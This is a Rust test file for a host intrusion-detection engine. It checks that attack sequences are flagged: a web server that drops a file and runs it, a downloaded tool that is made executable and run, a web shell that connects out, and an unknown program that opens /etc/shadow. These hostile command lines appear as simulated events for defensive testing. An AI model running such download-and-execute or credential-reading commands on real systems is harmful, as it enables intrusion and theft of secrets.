use super::super::Behaviour;
use super::super::rules::Rules;
use super::*;
use crate::telemetry::event::{
    Ancestor, Class, Common, Connection, Details, FileDid, FileFacts, FileSystemActivity, NetworkActivity, NetworkDid,
    ProcessActivity, ProcessDid, Protocol, Publisher, Running, Text, VERSION,
};

const SECOND: u64 = 1_000_000_000;

/// A process of this number that began at that second, with those above it.
fn process(pid: i32, began: u64, line: &str, above: &[(i32, u64, &str)]) -> Process {
    let arguments: Vec<_> = line.split(' ').map(str::to_owned).collect();
    let path = Text::from(&arguments[0]);
    let is_of_package = arguments[0].starts_with("/usr/");
    let publisher = if is_of_package { Publisher::Package { name: Text::from("x") } } else { Publisher::Nobody };
    let file = FileFacts { sha256: None, publisher };
    let running = Running { path, arguments, folder: "/srv".to_owned(), file, ..Running::default() };
    let ancestors = above.iter().map(|(pid, began, path)| Ancestor {
        pid: *pid,
        began: began * SECOND,
        path: Text::from(*path),
        line: Text::default(),
    });
    Process {
        pid,
        began: began * SECOND,
        ancestors: ancestors.collect(),
        details: Details::Known(Common::new(running)),
    }
}

fn launch(process: Process) -> Class {
    Class::ProcessActivity(ProcessActivity { activity: ProcessDid::Launch, process })
}

fn file(activity: FileDid, path: &str, process: Process) -> Class {
    Class::FileSystemActivity(FileSystemActivity { activity, path: path.to_owned(), process: Some(process) })
}

fn network(activity: NetworkDid, remote: &str, process: Process) -> Class {
    let (local, remote) = ("10.0.0.5:41000".parse().unwrap(), remote.parse().unwrap());
    let connection = Connection { protocol: Protocol::Tcp, local, remote, user: 0 };
    Class::NetworkActivity(NetworkActivity { activity, connection, process: Some(process) })
}

fn event(sequence: u64, second: u64, what: Class) -> Event {
    Event { version: VERSION, sequence, time: second * SECOND, what }
}

/// The sequences that events end, which come in this order, each at its second.
fn told(events: &[(u64, Class)]) -> Vec<String> {
    let mut sequences = Sequences::builtin().unwrap();
    let mut told = Vec::new();
    for (sequence, (second, what)) in (1..).zip(events) {
        sequences.judge(&event(sequence, *second, what.clone()), &mut |alarm| {
            told.push(format!("{} {:?}", alarm.rule, alarm.events));
        });
    }
    told
}

const SERVER: (i32, u64, &str) = (100, 1, "/usr/sbin/apache2");

fn drop_of_server() -> Class {
    file(FileDid::Create, "/srv/up/x", process(100, 1, "/usr/sbin/apache2 -k start", &[]))
}

fn run(path: &str) -> Class {
    launch(process(201, 8, path, &[(200, 7, "/usr/bin/dash"), SERVER]))
}

#[test]
fn every_sequence_has_words_and_steps() {
    let read = |language: &str| {
        let path = format!("{}/../../locales/{language}/behaviour.json", env!("CARGO_MANIFEST_DIR"));
        std::fs::read_to_string(path).unwrap()
    };
    let words = ["en", "zh-CN"].map(read);
    let sequences = Sequences::builtin().unwrap();
    for (sequence, (name, _)) in sequences.all().iter().zip(SEQUENCES) {
        assert_eq!(sequence.id, *name);
        assert!(!sequence.steps.is_empty() && sequence.within_s > 0 && !sequence.tags.is_empty());
        assert!(words.iter().all(|words| words.contains(&format!("\"sequence-{name}\""))), "{name} has no words");
    }
    assert!(sequences.all().len() >= 5);
    assert!(Sequences::of(&[("bent", "id = 1")]).is_err());
}

#[test]
fn a_server_that_writes_a_file_and_runs_it_is_told() {
    assert_eq!(told(&[(5, drop_of_server()), (8, run("/srv/up/x"))]), ["server-drops-and-runs [1, 2]"]);
    let script = launch(process(201, 8, "/usr/bin/python3 up/x", &[SERVER]));
    assert_eq!(told(&[(5, drop_of_server()), (8, script)]), ["server-drops-and-runs [1, 2]"], "by an interpreter");
    assert_eq!(told(&[(5, drop_of_server()), (8, run("/srv/other"))]), [""; 0], "another file");
    assert_eq!(told(&[(5, drop_of_server()), (700, run("/srv/up/x"))]), [""; 0], "too late");
    assert_eq!(told(&[(8, run("/srv/up/x")), (9, drop_of_server())]), [""; 0], "the wrong way round");
    let elsewhere = launch(process(201, 8, "/srv/up/x", &[(300, 2, "/usr/bin/bash")]));
    assert_eq!(told(&[(5, drop_of_server()), (8, elsewhere)]), [""; 0], "not by the server");
    // Again in its time is told once.
    let again = [(5, drop_of_server()), (8, run("/srv/up/x")), (9, drop_of_server()), (10, run("/srv/up/x"))];
    assert_eq!(told(&again), ["server-drops-and-runs [1, 2]"]);
}

#[test]
fn a_number_that_is_used_again_is_another_lineage() {
    let later = launch(process(201, 8, "/srv/up/x", &[(100, 7, "/usr/bin/bash")]));
    assert_eq!(told(&[(5, drop_of_server()), (8, later)]), [""; 0]);
    // Of a server that nobody saw begin one cannot tell.
    let unknown = file(FileDid::Create, "/srv/up/x", process(100, 0, "/usr/sbin/apache2", &[]));
    let ran = launch(process(201, 8, "/srv/up/x", &[(100, 0, "/usr/sbin/apache2")]));
    assert_eq!(told(&[(5, unknown), (8, ran)]), [""; 0]);
}

#[test]
fn a_viewer_that_starts_a_shell_is_told() {
    let shell = |above| launch(process(20, 8, "/usr/bin/bash -c id", above));
    assert_eq!(told(&[(8, shell(&[(10, 1, "/usr/bin/evince")]))]), ["viewer-starts-shell [1]"]);
    assert_eq!(told(&[(8, shell(&[(10, 1, "/usr/bin/gnome-terminal")]))]), [""; 0]);
}

#[test]
fn a_shell_of_a_web_server_that_connects_is_told() {
    let shell = process(200, 7, "/usr/bin/dash", &[SERVER]);
    let child = process(201, 8, "/usr/bin/telnet", &[(200, 7, "/usr/bin/dash"), SERVER]);
    let out = |process| network(NetworkDid::Open, "192.0.2.1:443", process);
    assert_eq!(told(&[(7, launch(shell.clone())), (9, out(child))]), ["web-shell-connects [1, 2]"]);
    // The server itself goes on with its work.
    let server = process(100, 1, "/usr/sbin/apache2", &[]);
    assert_eq!(told(&[(7, launch(shell.clone())), (9, out(server))]), [""; 0]);
    let here = network(NetworkDid::Open, "127.0.0.1:3306", shell.clone());
    assert_eq!(told(&[(7, launch(shell)), (9, here)]), [""; 0]);
}

#[test]
fn a_download_that_is_made_executable_and_run_is_told() {
    let above = [(50, 1, "/usr/bin/bash")];
    let child = |pid, line: &str| launch(process(pid, 5, line, &above));
    let events = |mode: &str| {
        [
            (5, child(60, "/usr/bin/curl -so tool http://192.0.2.1/tool")),
            (6, child(61, &format!("/usr/bin/chmod {mode} tool other"))),
            (7, child(62, "/srv/tool")),
        ]
    };
    assert_eq!(told(&events("+x")), ["download-runs [1, 2, 3]"]);
    assert_eq!(told(&events("755")), ["download-runs [1, 2, 3]"]);
    assert_eq!(told(&events("644")), [""; 0]);
}

#[test]
fn an_unknown_program_that_opens_secrets_is_told() {
    let open = |line: &str| file(FileDid::Open, "/etc/shadow", process(20, 5, line, &[]));
    assert_eq!(told(&[(5, open("/srv/tool"))]), ["unknown-opens-secret [1]"]);
    assert_eq!(told(&[(5, open("/usr/sbin/unix_chkpwd"))]), [""; 0]);
}

#[test]
fn events_that_come_out_of_order_are_put_in_order() {
    let mut behaviour = Behaviour::new(Rules::with(None).unwrap().0, Sequences::builtin().unwrap());
    let mut told = Vec::new();
    // The source of files is slower: what happened first comes last.
    for event in [event(1, 8, run("/srv/up/x")), event(2, 7, drop_of_server())] {
        behaviour.take(event, &mut |alarm| told.push(alarm));
    }
    assert_eq!(told, [], "nothing is due yet");
    behaviour.end(&mut |alarm| told.push(alarm));
    let told: Vec<_> = told.iter().map(|alarm| (alarm.rule.as_str(), alarm.events.clone())).collect();
    assert_eq!(told, [("server-drops-and-runs", vec![2, 1])]);
}

#[test]
fn what_is_remembered_is_bounded() {
    let mut sequences = Sequences::builtin().unwrap();
    let mut judge = |number: u64, what| sequences.judge(&event(number, 5, what), &mut |alarm| panic!("{alarm:?}"));
    // One server that writes many files, and many of them that write one each.
    for number in 0..1000 {
        let server = process(100, 1, "/usr/sbin/apache2", &[]);
        judge(number, file(FileDid::Create, &format!("/srv/{number}"), server));
    }
    for number in 0..BEGUN_MAX as u64 + 50 {
        let server = process(i32::try_from(number + 1000).unwrap(), 1, "/usr/sbin/nginx", &[]);
        judge(number, file(FileDid::Create, "/srv/x", server));
    }
    assert_eq!(sequences.count(), BEGUN_MAX);
    assert_eq!(sequences.ends.len(), BEGUN_MAX);
    assert_eq!(sequences.forgotten(), 1000 - BEGUN_OF_LINEAGE_MAX as u64 + 50 + BEGUN_OF_LINEAGE_MAX as u64);
    // All of it goes with time.
    sequences.judge(&event(1, 5000, run("/srv/z")), &mut |_| {});
    assert_eq!((sequences.count(), sequences.ends.len(), sequences.begun.len()), (0, 0, 0));
}
